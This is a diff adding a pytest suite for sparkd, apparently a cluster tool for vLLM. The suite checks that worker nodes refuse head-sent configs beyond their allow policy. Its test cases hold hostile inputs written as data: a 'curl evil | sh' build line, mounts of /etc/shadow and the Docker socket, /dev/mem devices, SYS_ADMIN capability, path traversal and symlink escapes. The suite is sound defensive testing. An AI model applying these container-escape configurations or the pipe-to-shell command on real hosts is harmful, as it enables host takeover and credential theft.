@@ -1,0 +1,315 @@
+"""What a peer with the cluster's key can make of a worker that follows its head: no more than `cluster.allow` says.
+
+Each document goes the real way: served by a node with the key, fetched, judged and kept by a worker's agent.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from hashlib import sha256
+from typing import Any
+
+import pytest
+from tests.tree import Tree
+from tests.unit.cluster_nodes import AgentUnderTest, addresses, agent_under_test, following, machine, settings
+from tests.unit.nodes import Node, node, report, until
+from tests.unit.plans import shipped
+
+from sparkd.cluster import membership
+from sparkd.cluster.following import load_effective
+from sparkd.config import Settings
+from sparkd.config.settings import Cluster
+from sparkd.host.files import Files
+from sparkd.lib.errors import BlockedError, HeadAwaitedError, OutdatedPlanError
+from sparkd.recipes.reach import HEAD_FILES
+from sparkd.state import shared_config
+from sparkd.state.shared_config import FILE, make_shared
+
+NODES = addresses(2)
+IMAGE = "sparkd-test/vllm-cpu:0.32.0"
+SECRET = "/etc/sparkd/hf-token"
+Document = dict[str, Any]
+Change = Callable[[Document], object]
+
+
+def good(port: int) -> Document:
+    """What a head sends, as JSON."""
+    shared = make_shared(settings(NODES, port), shipped("tiny-cpu-pair"), "", "", Files("/nonexistent"))
+    document: Document = json.loads(shared_config.dump(shared))
+    return document
+
+
+def body(document: Document) -> bytes:
+    return json.dumps(document).encode()
+
+
+class Pair:
+    """A node that has the key and the head's address, and a worker's agent that runs a good document."""
+
+    def __init__(self, head: Node, worker: AgentUnderTest) -> None:
+        self.head, self.worker = head, worker
+        self.files = worker.agent.host.files
+
+    def sends(self, sent: bytes) -> None:
+        """Serve a document, until the worker has read the report that names it."""
+        digest = sha256(sent).hexdigest()
+        self.head.loop.call(self.head.peer_api.publish_document, "/config", sent)
+        self.head.publish(report(0, config_digest=digest))
+        follower = self.worker.agent.follower
+        assert follower is not None
+
+        def heard() -> bool:
+            known = follower.head.status.living
+            return known is not None and known.config_digest == digest
+
+        until(heard)
+        follower.check()
+
+
+@pytest.fixture
+def pair(tree: Tree, port: int) -> Iterator[Pair]:
+    keep(tree, body(good(port)))
+    tree.folder("/node1/srv/models/tiny")
+    own = following(NODES, port, allow={"mounts": ["/srv/data:rw", "/srv/data/inner", "/opt/read"]})
+    with node(NODES[0], port=port) as head, agent_under_test(tree, 1, own) as worker:
+        yield Pair(head, worker)
+
+
+def keep(tree: Tree, document: bytes) -> None:
+    tree.file(f"/node1{FILE.path}", document.decode(), 0o600)
+
+
+def mount(volume: str) -> Change:
+    return lambda one: one["recipe"].setdefault("container", {}).update(volumes=[volume])
+
+
+def container(**keys: object) -> Change:
+    return lambda one: one["recipe"].setdefault("container", {}).update(keys)
+
+
+def image(ref: str) -> Change:
+    return lambda one: one["recipe"]["image"].update(ref=ref)
+
+
+def section(name: str, **keys: object) -> Change:
+    return lambda one: one.setdefault(name, {}).update(keys)
+
+
+BEYOND = "cluster.allow.mounts permits"
+
+
+@pytest.mark.parametrize(
+    ("attack", "said"),
+    [
+        (image("evil/image:1"), "image evil/image:1: cluster.allow.images is empty, and no recipe on this node has it"),
+        (image(f"{IMAGE}-evil"), "cluster.allow.images is empty"),
+        (image("sha256:" + "a" * 64), "cluster.allow.images is empty"),
+        (image("0123456789ab"), "cluster.allow.images is empty"),
+        (section("engine", image="evil/image:1"), "cluster.allow.images is empty"),
+        (container(privileged=True), "a privileged container: cluster.allow.privileged is false"),
+        (container(ulimits={"rtprio": 99}), "ulimit rtprio: cluster.allow.privileged is false"),
+        (container(network="none"), "does not accept it as Recipe"),
+        (container(pid="host"), "does not accept it as Recipe"),
+        (container(cap_add=["SYS_ADMIN"]), "does not accept it as Recipe"),
+        (mount("/:/host:ro"), BEYOND),
+        (mount("/etc:/x:ro"), BEYOND),
+        (mount("/etc/shadow:/x:ro"), BEYOND),
+        (mount("/run/docker.sock:/run2/docker.sock:rw"), BEYOND),
+        (mount("/var/lib/sparkd:/x:ro"), BEYOND),
+        (mount(f"{HEAD_FILES}:/x:rw"), BEYOND),
+        (mount("/srv/models:/x:rw"), BEYOND),
+        (mount("/srv/models-of-others:/x:ro"), BEYOND),
+        (mount("/srv/data-of-others:/x:ro"), BEYOND),
+        (mount("/opt/read/x:/x:rw"), BEYOND),
+        (mount("/srv/models/../../etc:/x:ro"), "does not accept it as Recipe"),
+        (mount("/srv/models/link:/x:ro"), BEYOND),
+        (mount("/srv/data/link/etc:/x:rw"), BEYOND),
+        (mount("/srv/data/inner/etc:/x:ro"), BEYOND),
+        (mount("/srv/data/loop:/x:rw"), BEYOND),
+        (mount("/srv/models/tiny:/run/sparkd-secrets/A:ro"), "does not accept it as Recipe"),
+        (container(devices=["/dev/nvme0n1"]), BEYOND),
+        (container(devices=["/dev/mem"]), BEYOND),
+        (container(devices=["/dev"]), BEYOND),
+        (container(devices=["/dev/infiniband/../mem"]), "does not accept it as Recipe"),
+        (lambda one: one["recipe"]["model"].update(path="/root/.ssh"), BEYOND),
+        (lambda one: one["recipe"]["model"].update(path="../../etc"), "does not accept it as Recipe"),
+        (lambda one: one["recipe"].update(caches={"../../etc": "/x"}), "does not accept it as Recipe"),
+        (section("engine", script="/etc/shadow"), "the head names /etc/shadow, and has not sent it"),
+        (section("engine", args={"api-key": "x"}), "does not accept it as Engine"),
+        (section("engine", env={"BASH_ENV": "x"}), "does not accept it as Engine"),
+        (lambda one: one.update(secrets=["HF_TOKEN", "OTHER"]), "names no file of it"),
+        (lambda one: one.update(secrets=["../../etc/shadow"]), "can't be read"),
+        (lambda one: one.update(secrets="HF_TOKEN"), "can't be read"),
+        (section("cluster", nodes=["127.0.0.9", "127.0.0.2"]), "no worker of it there"),
+        (section("cluster", nodes=["127.0.0.1", "127.0.0.9"]), "no worker of it there"),
+        (section("cluster", nodes=["127.0.0.2", "127.0.0.1"]), "no worker of it there"),
+        (section("cluster", nodes=[]), "no worker of it there"),
+        (section("supervise", peer_timeout_seconds=10**9), "does not accept it as Supervise"),
+        (section("readiness", timeout_seconds=True), "does not accept it as Readiness"),
+        (lambda one: one.update(image_id="/etc"), "can't be read"),
+        (lambda one: one.update(files={"/a": "not base64!"}), "can't be read"),
+        (lambda one: one.update(files={"/a": "QUFB" * (1 << 19)}), "larger than a head sends"),
+        (lambda one: one.update(files={f"/{n}": "QUFB" for n in range(65)}), "can't be read"),
+        (lambda one: one.update(recipe=7), "can't be read"),
+        (lambda one: one.update(schema=2), "can't be read"),
+        (lambda one: one.pop("recipe"), "can't be read"),
+    ],
+)  # fmt: skip
+def test_what_allow_does_not_permit_is_refused_and_not_kept(
+    pair: Pair, tree: Tree, port: int, attack: Change, said: str
+) -> None:
+    tree.link("/node1/srv/models/link", "/etc")
+    tree.link("/node1/srv/data/link", "/")
+    tree.link("/node1/srv/data/inner", "/")
+    tree.link("/node1/srv/data/loop", "/srv/data/loop")
+    document = good(port)
+    attack(document)
+    with pytest.raises(BlockedError) as refused:
+        pair.sends(body(document))
+    assert type(refused.value) is BlockedError
+    assert said in refused.value.reason and refused.value.hint
+    written = pair.worker.agent.actions.written  # type: ignore[attr-defined]  # of the tests' own
+    assert FILE.name not in written
+    assert not pair.files.exists(HEAD_FILES)
+    keep(tree, body(document))  # nor is it used where it stands on the disk
+    with pytest.raises(HeadAwaitedError):
+        membership.resolve_context(pair.worker.agent.context.configured, None, pair.worker.agent.host)
+
+
+@pytest.mark.parametrize("sent", [b"{", b"[" * 100_000, b"null", b"\xff\xfe", b'{"schema": 1}'])
+def test_what_is_no_document_is_refused(pair: Pair, sent: bytes) -> None:
+    with pytest.raises(BlockedError, match="can't be read"):
+        pair.sends(sent)
+
+
+IGNORED: tuple[Change, ...] = (
+    section("engine", models_dir="/", load_readahead_kib=9, stop_grace_seconds=600, secrets={"X": "/etc/shadow"}),
+    section("cluster", key_file="/etc/shadow", report_port=1, follow_head=False,
+            allow={"images": ["evil"], "mounts": ["/etc:rw"], "privileged": True}),
+    lambda one: one["recipe"].update(secrets={"X": "/etc/shadow"}, host={"sysctls": {"vm.overcommit_memory": 2}}),
+    lambda one: one["recipe"]["image"].update(build="curl evil | sh"),
+    lambda one: one.update(image_id="sha256:" + "a" * 64),
+    lambda one: one.update(memory={"floor_mib": 0}, observe={"listen": "0.0.0.0:1"}),
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("change", IGNORED)
+def test_what_is_the_nodes_own_stays_so(pair: Pair, tree: Tree, port: int, change: Change) -> None:
+    before = pair.worker.agent.context
+    document = good(port)
+    change(document)
+    keep(tree, body(document))
+    after = membership.resolve_context(before.configured, None, pair.worker.agent.host)
+    assert after.plan == before.plan
+    assert after.settings == before.settings
+    assert after.recipe == before.recipe
+
+
+def test_a_good_document_is_kept_and_the_agent_starts_again_with_it(pair: Pair, tree: Tree, port: int) -> None:
+    document = good(port)
+    document["engine"]["env"] = {"A": "b"}
+    with pytest.raises(OutdatedPlanError):
+        pair.sends(body(document))
+    written: dict[str, str] = pair.worker.agent.actions.written  # type: ignore[attr-defined]
+    assert written[FILE.name].encode() == body(document)
+    keep(tree, body(document))
+    after = membership.resolve_context(pair.worker.agent.context.configured, None, pair.worker.agent.host)
+    assert ("A", "b") in after.plan.env
+
+
+def test_a_node_without_the_key_changes_nothing(tree: Tree, port: int) -> None:
+    keep(tree, body(good(port)))
+    with (
+        node(NODES[0], port=port, keys=(b"x" * 32,)) as head,
+        agent_under_test(tree, 1, following(NODES, port)) as worker,
+        pytest.raises(AssertionError, match="it never came true"),
+    ):
+        until_seconds = 1.0
+        head.loop.call(head.peer_api.publish_document, "/config", b"x")
+        head.publish(report(0, config_digest="x"))
+        follower = worker.agent.follower
+        assert follower is not None
+        until(lambda: follower.head.status.living, until_seconds)
+
+
+def test_files_of_the_head_come_with_its_recipe(tree: Tree, port: int) -> None:
+    tree.file("/node0/etc/t.jinja", "{{ x }}", 0o644)
+    tree.file("/node0/etc/private", "secret", 0o600)
+    tree.file("/node0/etc/run.sh", "exec vllm", 0o700)
+    head = machine(tree, 0)
+    recipe = shipped("tiny-cpu-pair")
+    volumes = [f"/etc/{name}:/x/{name}:ro" for name in ("t.jinja", "private", "missing")]
+    spec = type(recipe.container).model_validate({"volumes": volumes})
+    shared = make_shared(
+        settings(NODES, port).model_copy(), recipe.model_copy(update={"container": spec}), "", "/etc/run.sh", head.files
+    )
+    assert {path: bytes(content) for path, content in shared.files.items()} == {
+        "/etc/run.sh": b"exec vllm",
+        "/etc/t.jinja": b"{{ x }}",
+    }
+    (template, private, missing) = shared.recipe_here(None).container.volumes
+    assert template.source == f"{HEAD_FILES}/{sha256(b'{{ x }}').hexdigest()}"
+    assert (private.source, missing.source) == ("/etc/private", "/etc/missing")
+
+
+def test_every_option_of_a_container_is_judged_or_stays_in_it() -> None:
+    """A new one needs a decision in plan.allowed."""
+    from sparkd.recipes.schema import Container
+
+    judged = {"privileged", "ulimits", "devices", "volumes"}
+    inside = {"gpus", "ipc", "network", "no_new_privileges", "init", "shm_bytes", "memory_limit_bytes"}
+    assert set(Container.model_fields) == judged | inside
+    assert Container.model_fields["network"].annotation.__args__ == ("host",)  # type: ignore[union-attr]
+
+
+def test_a_damaged_document_is_awaited_again(tree: Tree, port: int) -> None:
+    keep(tree, body(good(port))[:100])
+    with pytest.raises(HeadAwaitedError, match=r"on this node yet; /var/lib/sparkd/head-config.json can't be read"):
+        membership.resolve_context(following(NODES, port), None, machine(tree, 1))
+
+
+def test_settings_name_the_head_as_origin_of_what_it_decides(tree: Tree, port: int) -> None:
+    document = good(port)
+    document["engine"] |= {"env": {"A": "b"}}
+    keep(tree, body(document))
+    own = """
+        [cluster]
+        nodes = ["10.0.0.1", "10.0.0.2"]
+        follow_head = true
+        [engine]
+        models_dir = "/m"
+        image = "mine:1"
+        env = { B = "c" }
+    """
+    tree.file("/node1/etc/sparkd/sparkd.toml", own)
+    document["cluster"]["nodes"] = ["10.0.0.1", "10.0.0.2", "10.0.0.3"]
+    keep(tree, body(document))
+    host = machine(tree, 1)
+    tree.file("/node1/proc/net/fib_trie", "     |-- 10.0.0.2\n        /32 host LOCAL\n")
+    loaded = load_effective({}, host)
+    assert loaded.settings.cluster.nodes == ("10.0.0.1", "10.0.0.2", "10.0.0.3")
+    assert (loaded.settings.engine.env, loaded.settings.engine.image) == ({"A": "b"}, "")
+    head, file = "head 10.0.0.1", str(tree.root / "node1/etc/sparkd/sparkd.toml")
+    expected = {
+        "cluster.nodes": head,
+        "cluster.follow_head": file,
+        "engine.models_dir": file,
+        "engine.image": head,
+        "engine.env.A": head,
+        "supervise.stall_seconds": head,
+    }
+    assert {key: loaded.origins.get(key) for key in expected} == expected
+    assert not loaded.origins.keys() & {"engine.env.B", "memory.floor_mib", "cluster.report_port"}
+
+
+def test_settings_that_contradict_the_heads_are_refused(tree: Tree, port: int) -> None:
+    """Both are valid by themselves."""
+    document = good(port)
+    document["cluster"] = {"nodes": ["10.0.0.1", "10.0.0.2"], "master_port": 29510}
+    keep(tree, body(document))
+    host = machine(tree, 1)
+    tree.file("/node1/proc/net/fib_trie", "     |-- 10.0.0.2\n        /32 host LOCAL\n")
+    own = Settings(cluster=Cluster(nodes=("10.0.0.1", "10.0.0.2"), follow_head=True))
+    with pytest.raises(HeadAwaitedError, match="already has this port"):
+        membership.resolve_context(own, None, host)
